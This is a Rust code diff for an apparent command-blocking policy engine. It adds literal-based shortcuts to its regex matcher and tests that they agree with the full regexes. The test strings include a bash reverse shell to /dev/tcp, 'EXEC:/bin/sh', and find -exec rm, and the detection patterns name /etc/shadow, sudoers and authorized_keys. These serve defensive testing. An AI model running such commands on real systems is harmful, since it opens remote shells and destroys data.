@@ -339,39 +339,98 @@ pub struct Pattern {
     pub(crate) flag_rule: Option<FlagRule>,
 }
 
-/// A compiled regular expression, with a cheap check in front of it: when every match must
-/// start at the start of the text (`^/dev/(sd|hd)`) and with one of a few literals, a text
-/// that starts with none of them cannot match and the regex does not run.
+/// A compiled regular expression with a cheap test in front of it. Each top-level branch of
+/// the regex (`a|b`) gets a condition that every match of that branch meets: anchored at the
+/// start (`^/dev/(sd|hd)`), the text starts with one of a few literals; anchored at the end
+/// (`authorized_keys$`), it ends with one; otherwise it contains a literal that the branch
+/// cannot match without (`-delete` in `(^|\s)-delete(\s|$)`). A text that meets no branch's
+/// condition cannot match, and the regex does not run. When some branch has no such condition,
+/// the regex always runs.
 #[derive(Debug, Clone)]
 pub(crate) struct Matcher {
     regex: Regex,
-    starts_with: Option<Vec<Box<[u8]>>>,
+    branches: Option<Vec<Branch>>,
+}
+
+/// What every match of one branch of a regex must meet.
+#[derive(Debug, Clone)]
+enum Branch {
+    StartsWith(Vec<Box<[u8]>>),
+    EndsWith(Vec<Box<[u8]>>),
+    Contains(Box<memchr::memmem::Finder<'static>>),
+}
+
+impl Branch {
+    fn of(hir: &regex_syntax::hir::Hir) -> Option<Branch> {
+        use regex_syntax::hir::literal::{ExtractKind, Extractor};
+        use regex_syntax::hir::{HirKind, Look};
+        let literals = |kind| {
+            Extractor::new()
+                .kind(kind)
+                .extract(hir)
+                .literals()
+                .map(|all| {
+                    all.iter()
+                        .map(|literal| Box::<[u8]>::from(literal.as_bytes()))
+                        .collect::<Vec<_>>()
+                })
+        };
+        let properties = hir.properties();
+        if properties.look_set_prefix().contains(Look::Start) {
+            if let Some(all) = literals(ExtractKind::Prefix) {
+                return Some(Branch::StartsWith(all));
+            }
+        }
+        if properties.look_set_suffix().contains(Look::End) {
+            if let Some(all) = literals(ExtractKind::Suffix) {
+                return Some(Branch::EndsWith(all));
+            }
+        }
+        // A literal directly in the branch's sequence is part of every match of it.
+        let parts = match hir.kind() {
+            HirKind::Concat(parts) => parts.as_slice(),
+            _ => std::slice::from_ref(hir),
+        };
+        parts
+            .iter()
+            .filter_map(|part| match part.kind() {
+                HirKind::Literal(literal) => Some(&literal.0),
+                _ => None,
+            })
+            .max_by_key(|bytes| bytes.len())
+            .filter(|bytes| bytes.len() >= 2)
+            .map(|bytes| {
+                Branch::Contains(Box::new(memchr::memmem::Finder::new(bytes).into_owned()))
+            })
+    }
+
+    fn may_match(&self, text: &[u8]) -> bool {
+        match self {
+            Branch::StartsWith(all) => all.iter().any(|literal| text.starts_with(literal)),
+            Branch::EndsWith(all) => all.iter().any(|literal| text.ends_with(literal)),
+            Branch::Contains(finder) => finder.find(text).is_some(),
+        }
+    }
 }
 
 impl Matcher {
     fn new(regex: Regex) -> Self {
-        use regex_syntax::hir::literal::{ExtractKind, Extractor};
-        use regex_syntax::hir::Look;
-        // `regex` parses with these same defaults; if the parse differs, there is no shortcut.
-        let starts_with = regex_syntax::Parser::new()
+        use regex_syntax::hir::HirKind;
+        // `regex` parses with these same defaults; should the parse fail, there is no shortcut.
+        let branches = regex_syntax::Parser::new()
             .parse(regex.as_str())
             .ok()
-            .filter(|hir| hir.properties().look_set_prefix().contains(Look::Start))
-            .and_then(|hir| {
-                let literals = Extractor::new().kind(ExtractKind::Prefix).extract(&hir);
-                literals.literals().map(|all| {
-                    all.iter()
-                        .map(|literal| Box::<[u8]>::from(literal.as_bytes()))
-                        .collect()
-                })
+            .and_then(|hir| match hir.kind() {
+                HirKind::Alternation(branches) => branches.iter().map(Branch::of).collect(),
+                _ => Branch::of(&hir).map(|branch| vec![branch]),
             });
-        Matcher { regex, starts_with }
+        Matcher { regex, branches }
     }
 
     pub(crate) fn is_match(&self, text: &str) -> bool {
-        if let Some(literals) = &self.starts_with {
+        if let Some(branches) = &self.branches {
             let bytes = text.as_bytes();
-            if !literals.iter().any(|literal| bytes.starts_with(literal)) {
+            if !branches.iter().any(|branch| branch.may_match(bytes)) {
                 return false;
             }
         }
@@ -385,6 +444,9 @@ impl Matcher {
 pub(crate) struct FlagRule {
     pub(crate) all: Vec<WantedFlag>,
     pub(crate) any: Vec<WantedFlag>,
+    /// Every short letter of `all` and `any`: without one of these or a long flag some pattern
+    /// looks for, the rule cannot match.
+    short_union: u64,
 }
 
 /// The spellings that give one canonical flag: short letters as a bit mask, long names as
@@ -490,14 +552,20 @@ impl FlagRule {
                 .map(|w| WantedFlag::compile(w, aliases, long_flags))
                 .collect()
         };
+        let (all, any) = (wanted(all), wanted(any));
+        let short_union = all.iter().chain(&any).fold(0, |mask, w| mask | w.short);
         Some(FlagRule {
-            all: wanted(all),
-            any: wanted(any),
+            all,
+            any,
+            short_union,
         })
     }
 
     /// Whether an invocation's flags meet the rule.
     pub(crate) fn matches(&self, flags: &InvocationFlags) -> bool {
+        if flags.short & self.short_union == 0 && flags.long.is_empty() {
+            return false;
+        }
         self.all.iter().all(|w| w.present(flags))
             && (self.any.is_empty() || self.any.iter().any(|w| w.present(flags)))
     }
@@ -1319,6 +1387,52 @@ mod matcher_tests {
     }
 
     #[test]
+    fn the_shortcut_agrees_with_every_default_regex_on_the_case_corpus() {
+        let policy = crate::default_policy().unwrap_or_else(|e| panic!("{e}"));
+        let files = [
+            include_str!("../tests/cases/attacks.json"),
+            include_str!("../tests/cases/callers.json"),
+            include_str!("../tests/cases/destructive.json"),
+            include_str!("../tests/cases/evasion.json"),
+            include_str!("../tests/cases/harmless.json"),
+            include_str!("../tests/cases/tools.json"),
+        ];
+        let mut texts: Vec<String> = Vec::new();
+        for file in files {
+            let doc: serde_json::Value =
+                serde_json::from_str(file).unwrap_or_else(|e| panic!("{e}"));
+            for case in doc["cases"].as_array().into_iter().flatten() {
+                if let Some(command) = case["command"].as_str() {
+                    // The whole text, each word, and each tail from a word on: what `args`
+                    // and `redirect` regexes are given.
+                    let words: Vec<&str> = command.split_whitespace().collect();
+                    texts.push(command.to_string());
+                    for i in 0..words.len() {
+                        texts.push(words[i].to_string());
+                        texts.push(words[i..].join(" "));
+                    }
+                }
+            }
+        }
+        let mut shortcuts = 0;
+        for pattern in &policy.patterns {
+            for m in pattern.args_re.iter().chain(&pattern.redirect_re) {
+                shortcuts += usize::from(m.branches.is_some());
+                for text in &texts {
+                    assert_eq!(
+                        m.is_match(text),
+                        m.regex.is_match(text),
+                        "{} on {text:?}",
+                        m.regex
+                    );
+                }
+            }
+        }
+        // The anchored redirect targets, `find -delete`, `dd of=/dev/...` and a few more.
+        assert!(shortcuts >= 8, "only {shortcuts} regexes have a shortcut");
+    }
+
+    #[test]
     fn the_shortcut_never_changes_the_answer() {
         let texts = [
             "",
@@ -1332,21 +1446,34 @@ mod matcher_tests {
             "-delete",
             "a -exec rm",
             "DROP TABLE x",
+            "x\n/dev/sda",
+            "/etc/sudoers.d/x",
+            "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
+            "EXEC:/bin/sh",
+            "find . -exec /bin/rm {} ;",
+            "a -delete",
         ];
         let regexes = [
             (r"^/dev/(sd|hd|nvme)", true),
             (r"(?i)^/dev/(sd|hd)", true),
-            (r"^/etc/(shadow|passwd)$|authorized_keys$", false),
+            (
+                r"^/etc/(shadow|passwd|sudoers\.d/.*)$|authorized_keys$",
+                true,
+            ),
             (
                 r"(^|\s)-delete(\s|$)|(^|\s)-exec(dir)?\s+(\S*/)?rm(\s|$)",
-                false,
+                true,
             ),
+            (r"(^|\s)-delete(\s|$)|(^|\s)rm\b", true),
+            (r"(^|\s)-delete(\s|$)|\d+", false),
             (r"(?i)\b(drop\s+(database|table))\b", false),
             (r"^\S+", false),
+            (r"(?m)^/dev/sd", true),
+            (r"/dev/(tcp|udp)/|(?i)exec:", false),
         ];
         for (re, shortcut) in regexes {
             let m = matcher(re);
-            assert_eq!(m.starts_with.is_some(), shortcut, "{re}");
+            assert_eq!(m.branches.is_some(), shortcut, "{re}");
             for text in texts {
                 assert_eq!(m.is_match(text), m.regex.is_match(text), "{re} on {text:?}");
             }
